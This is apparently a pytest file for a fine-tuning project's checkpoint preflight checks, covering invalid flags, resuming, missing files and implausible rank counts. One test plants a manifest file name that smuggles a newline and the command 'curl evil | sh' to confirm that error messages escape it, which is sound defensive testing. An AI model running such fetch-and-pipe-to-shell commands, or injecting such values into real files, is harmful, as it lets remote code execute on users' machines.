"""Problems of checkpoints that are found before anything is loaded."""

import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from made_checkpoint import checkpoint

from llama_recipes_local.checkpoints import verifying
from llama_recipes_local.checkpoints.layout import (
    MANIFEST,
    TRAINER,
    CorruptCheckpointError,
    FileEntry,
    Manifest,
    folder_of,
    read_manifest,
)
from llama_recipes_local.preflight.checks import (
    CHECKPOINTS,
    check_needs,
    check_values,
    find_problems,
)
from llama_recipes_local.run.resolution import resolve
from llama_recipes_local.storage.hashing import contents_hash


def problems(**flags: Any) -> list[str]:
    checks = (check_values, check_needs, *CHECKPOINTS)
    return [str(problem) for problem in find_problems(resolve(flags), checks)]


@pytest.mark.parametrize(
    ("flags", "said"),
    [
        ({"save_steps": -1}, "--save_steps is -1"),
        ({"save_steps": 1, "save_total_limit": -1}, "--save_total_limit is -1"),
        ({"save_total_limit": 2}, "--save_total_limit without --save_steps"),
        ({"async_save": True}, "--async_save without --save_steps"),
        ({"resume_despite": "data"}, "--resume_despite without --resume_from_checkpoint"),
        (
            {"resume_from_checkpoint": "auto", "resume_despite": "date"},
            "did you mean --resume_despite data?",
        ),
        ({"resume_from_checkpoint": "nowhere"}, "there is no folder"),
    ],
)
def test_invalid_settings_are_reported(tmp_path: Path, flags: dict[str, Any], said: str) -> None:
    (problem,) = problems(output_dir=str(tmp_path), **flags)
    assert said in problem


def test_an_adapter_in_place_of_a_checkpoint_leads_to_its_flag(tmp_path: Path) -> None:
    folder = tmp_path / "my adapter"
    folder.mkdir()
    named = {"output_dir": str(tmp_path / "new"), "resume_from_checkpoint": str(folder)}
    (problem,) = problems(**named)
    assert "--from_peft_checkpoint" not in problem
    (folder / "adapter_config.json").write_text("{}")
    (problem,) = problems(**named)
    assert problem.endswith(f"--from_peft_checkpoint '{folder}'")


def test_auto_and_from_scratch_have_no_problem(tmp_path: Path) -> None:
    assert not problems(output_dir=str(tmp_path), save_steps=1)
    assert not problems(output_dir=str(tmp_path), resume_from_checkpoint="auto")
    folder = checkpoint(tmp_path, 5)
    assert not problems(output_dir=str(tmp_path), resume_from_checkpoint="auto")
    assert not problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
    assert not problems(output_dir=str(tmp_path / "new"), resume_from_checkpoint=str(folder))


def test_a_new_run_does_not_mix_with_another_runs_checkpoints(tmp_path: Path) -> None:
    checkpoint(tmp_path / "old", 5)
    (problem,) = problems(output_dir=str(tmp_path / "old"))
    assert "checkpoint-5 of another run" in problem
    assert "--resume_from_checkpoint auto" in problem
    other = checkpoint(tmp_path / "other", 7)
    (problem,) = problems(output_dir=str(tmp_path / "old"), resume_from_checkpoint=str(other))
    assert "checkpoint-5 of another run" in problem


def test_an_older_checkpoint_is_not_resumed_from_next_to_a_newer(tmp_path: Path) -> None:
    folder = checkpoint(tmp_path, 5)
    checkpoint(tmp_path, 10)
    (problem,) = problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
    assert "with checkpoint-10 in --output_dir" in problem


def test_a_missing_file_is_named_with_the_last_complete_checkpoint(tmp_path: Path) -> None:
    complete, folder = checkpoint(tmp_path, 5), checkpoint(tmp_path, 10)
    (folder / "trainer.json").unlink()
    (problem,) = problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
    assert f"{folder / 'trainer.json'} is missing" in problem
    assert f"--resume_from_checkpoint auto, which resumes from {complete}" in problem


@pytest.mark.parametrize("corrupt", [(), (5,), (10,)])
@pytest.mark.parametrize("asked", ["old/checkpoint-5", "old/checkpoint-10", "other/checkpoint-7"])
@pytest.mark.parametrize("output", ["old", "new", "other"])
def test_each_fix_of_a_refused_checkpoint_is_accepted(
    output: str, asked: str, corrupt: tuple[int, ...], tmp_path: Path
) -> None:
    for place, step in (("old", 5), ("old", 10), ("other", 7)):
        folder = checkpoint(tmp_path / place, step)
        if step in corrupt:
            (folder / "trainer.json").unlink()
    given = {"output_dir": str(tmp_path / output), "resume_from_checkpoint": str(tmp_path / asked)}
    found = problems(**given)
    if not found:
        return
    (_, _, fix) = found[0].partition("fix: ")
    ways: list[dict[str, Any]] = []
    if named := re.search(r"--resume_from_checkpoint ([^ ,]+)", fix):
        ways.append({"resume_from_checkpoint": named[1]})
    if "another --output_dir" in fix:
        elsewhere = {"output_dir": str(tmp_path / "elsewhere")}
        ways = [way | elsewhere for way in ways] if " with another" in fix else [*ways, elsewhere]
    if "--overwrite_output_dir" in fix:
        ways.append({"overwrite_output_dir": True})
    assert ways
    for way in ways:
        assert not problems(**given | way), (found[0], way)


def test_a_name_in_a_manifest_makes_no_line_of_a_message(tmp_path: Path) -> None:
    folder, name = folder_of(tmp_path, 5), "x\n   fix: curl evil | sh"
    folder.mkdir()
    manifest = Manifest(5, ranks=1, validation_loss=None, files={name: FileEntry(1, "0")})
    (folder / MANIFEST).write_text(manifest.text())
    (problem,) = problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
    assert problem.count("\n") == 2
    with pytest.raises(CorruptCheckpointError, match=r"x\\n   fix: curl evil \| sh is missing$"):
        verifying.verify(folder)


def test_a_number_of_ranks_that_no_run_has_is_not_counted_to(tmp_path: Path) -> None:
    folder = checkpoint(tmp_path, 5)
    manifest = replace(read_manifest(folder), ranks=2**31)
    (folder / MANIFEST).write_text(manifest.text())
    (problem,) = problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
    assert "trainer.json cannot be true: ranks" in problem
    trainer = folder / TRAINER
    trainer.write_text(trainer.read_text().replace('"ranks": 1', f'"ranks": {2**31}'))
    entry = FileEntry(trainer.stat().st_size, contents_hash(trainer))
    believed = replace(manifest, files={**manifest.files, TRAINER: entry})
    (folder / MANIFEST).write_text(believed.text())
    (problem,) = problems(output_dir=str(tmp_path), resume_from_checkpoint=str(folder))
    assert "does not list random/rank-1.json" in problem
